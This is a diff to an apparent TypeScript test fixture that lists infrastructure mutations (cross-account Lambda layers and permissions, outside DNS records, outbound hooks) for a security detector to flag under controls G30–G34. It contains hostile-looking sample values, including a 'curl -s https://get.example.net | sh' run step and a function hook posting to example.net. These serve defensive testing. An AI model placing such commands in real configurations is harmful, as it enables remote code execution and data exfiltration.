@@ -1,9 +1,8 @@
-import { add, change, changeOne, type Mutation, say, sayIn, several } from "./mutate.ts";
+import { add, change, changeOne, say, sayIn, several } from "./mutate.ts";
 import {
   bucketPolicy,
   client,
   cloudControl,
-  type Demo,
   data,
   document,
   endpoint,
@@ -20,9 +19,12 @@ import {
   subscription,
   template,
 } from "./strangers.ts";
+import type { Change } from "./strangers-changes.ts";
 
-/** What strangers change, the control that it is reported under, and the stack. */
-export const named: readonly (readonly [control: string, what: string, mutation: Mutation, stack?: Demo])[] = [
+const fn = "aws:lambda/function:Function";
+
+/** Names of others in a stack, and the control that they are reported under. */
+export const named: readonly Change[] = [
   [
     "G30",
     "a peering with a stranger's network",
@@ -145,20 +147,15 @@ export const named: readonly (readonly [control: string, what: string, mutation:
   ],
   ["G32", "a function that a stranger calls", changeOne("aws:lambda/permission:Permission", { principal: stranger })],
   ["G32", "one that a stranger's bucket calls", changeOne("aws:lambda/permission:Permission", { sourceAccount: stranger })],
-  [
-    "G32",
-    "a stranger's layer",
-    changeOne("aws:lambda/function:Function", { layers: [`arn:aws:lambda:us-east-1:${stranger}:layer:them:1`] }),
-  ],
-  [
-    "G32",
-    "a stranger's code by its image",
-    changeOne("aws:lambda/function:Function", { imageUri: `${stranger}.dkr.ecr.us-east-1.amazonaws.com/a:1` }),
-  ],
+  ["G32", "a stranger's layer", change([fn, "certificate"], { layers: [`arn:aws:lambda:us-east-1:${stranger}:layer:them:1`] })],
+  ["G32", "a stranger's code by its image", change([fn, "backup-watch"], { imageUri: `${stranger}.dkr.ecr.us-east-1.amazonaws.com/a:1` })],
   [
     "G32",
     "a topic that mails a stranger's function",
-    changeOne(subscription, { protocol: "lambda", endpoint: `arn:aws:lambda:us-east-1:${stranger}:function:f` }),
+    change([subscription, "staff-logins-operations@example.com"], {
+      protocol: "lambda",
+      endpoint: `arn:aws:lambda:us-east-1:${stranger}:function:f`,
+    }),
   ],
   [
     "G32",
@@ -181,7 +178,7 @@ export const named: readonly (readonly [control: string, what: string, mutation:
   [
     "G32",
     "a function that writes to a stranger's queue by its URL",
-    changeOne("aws:lambda/function:Function", {
+    change([fn, "database-users"], {
       environment: { variables: { QUEUE: `https://sqs.us-east-1.amazonaws.com/${stranger}/q` } },
     }),
   ],
@@ -290,9 +287,9 @@ export const named: readonly (readonly [control: string, what: string, mutation:
     ),
     "demo-account",
   ],
-  ["G34", "the store's name leads to a stranger", changeOne(record, { type: "CNAME", records: ["shop.example.net"] })],
-  ["G34", "as does its mail", changeOne(record, { type: "MX", records: ["10 mx.example.net."] })],
-  ["G34", "and its zone", changeOne(record, { type: "NS", records: ["ns1.example.net"] })],
+  ["G34", "the store's name leads to a stranger", change([record, "mail-domain-dkim-1"], { type: "CNAME", records: ["shop.example.net"] })],
+  ["G34", "as does its mail", change([record, "mail-domain-dkim-2"], { type: "MX", records: ["10 mx.example.net."] })],
+  ["G34", "and its zone", change([record, "mail-domain-dkim-3"], { type: "NS", records: ["ns1.example.net"] })],
   [
     "G34",
     "an alias of another's load balancer",
@@ -301,17 +298,21 @@ export const named: readonly (readonly [control: string, what: string, mutation:
   [
     "G34",
     "a function that calls home",
-    changeOne("aws:lambda/function:Function", { environment: { variables: { HOOK: "https://example.net/in" } } }),
+    change([fn, "restore-validation"], { environment: { variables: { HOOK: "https://example.net/in" } } }),
   ],
   [
     "G34",
     "one that calls an API of any customer",
-    changeOne("aws:lambda/function:Function", {
+    changeOne(fn, {
       environment: { variables: { HOOK: "https://a1b2c3.execute-api.us-east-1.amazonaws.com/in" } },
     }),
   ],
-  ["G34", "a stranger's bucket by its URL", changeOne(document, { content: '{"url":"https://drop-box.s3.us-east-1.amazonaws.com/x"}' })],
-  ["G34", "a script from a stranger", changeOne(document, { content: '{"run":["curl -s https://get.example.net | sh"]}' })],
+  [
+    "G34",
+    "a stranger's bucket by its URL",
+    change([document, "node-files"], { content: '{"url":"https://drop-box.s3.us-east-1.amazonaws.com/x"}' }),
+  ],
+  ["G34", "a script from a stranger", change([document, "node-logins"], { content: '{"run":["curl -s https://get.example.net | sh"]}' })],
   [
     "G34",
     "one in what nodes begin with",
